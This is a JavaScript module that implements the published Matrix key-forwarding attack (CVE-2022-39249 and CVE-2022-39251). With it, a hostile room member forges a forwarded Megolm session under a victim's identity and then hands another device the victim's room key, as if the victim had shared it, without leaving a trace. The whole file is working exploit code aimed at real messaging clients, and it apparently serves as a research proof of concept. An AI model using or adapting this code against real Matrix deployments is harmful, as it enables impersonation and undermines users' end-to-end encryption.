// What a hostile member does with a key that it was given, in the words of the published attack
// (Albrecht, Celi, Dowling, Jones: Practically-exploitable Cryptographic Vulnerabilities in Matrix).

import { deviceOf, userOf } from './names.mjs';

const MEGOLM = 'm.megolm.v1.aes-sha2';

/** Hands somebody who did not ask the key under which another one sends, in that one's name. */
export async function forward(account, { room, sender, to }) {
  const { client } = account;
  const found = await client.downloadKeys([userOf(sender), userOf(to)], true);
  const victim = found[userOf(sender)]?.[deviceOf(sender)];
  const heard = account.heard.findLast(
    (key) => key.room === room && key.senderKey === victim?.getIdentityKey(),
  );
  if (!heard) throw new Error(`no key of \`${sender}\` is known`);
  const device = client.getStoredDevice(userOf(to), deviceOf(to));
  const send = (payload) =>
    client.encryptAndSendToDevices([{ userId: userOf(to), deviceInfo: device }], payload);
  await disguise(account, { room, victim, heard, to, send });
  // The same key as the library itself hands it to one who asks.
  const algorithm = client.crypto.getRoomDecryptor(room, MEGOLM);
  await send(await algorithm.buildKeyForwardingMessage(room, heard.senderKey, heard.sessionId));
}

/**
 * First a session of one's own as a forwarded one of the victim's (CVE-2022-39249); then, encrypted
 * under that session but handed over outside of the room, the key as if the victim had shared it
 * itself (CVE-2022-39251), which leaves no mark.
 */
async function disguise(account, { room, victim, heard, to, send }) {
  const carrier = new globalThis.Olm.OutboundGroupSession();
  const copy = new globalThis.Olm.InboundGroupSession();
  try {
    carrier.create();
    copy.create(carrier.session_key());
    const session = { algorithm: MEGOLM, room_id: room, session_id: carrier.session_id() };
    await send({
      type: 'm.forwarded_room_key',
      content: {
        ...session,
        sender_key: heard.senderKey,
        sender_claimed_ed25519_key: victim.getFingerprint(),
        session_key: copy.export_session(0),
        chain_index: 0,
        forwarding_curve25519_key_chain: [],
      },
    });
    const key = { ...session, session_id: heard.sessionId, session_key: heard.sessionKey };
    const payload = { type: 'm.room_key', room_id: room, content: key };
    const ciphertext = carrier.encrypt(JSON.stringify(payload));
    const content = { ...session, sender_key: heard.senderKey, ciphertext };
    account.server.send(userOf(to), { type: 'm.room.encrypted', room_id: room, content });
  } finally {
    carrier.free();
    copy.free();
  }
}
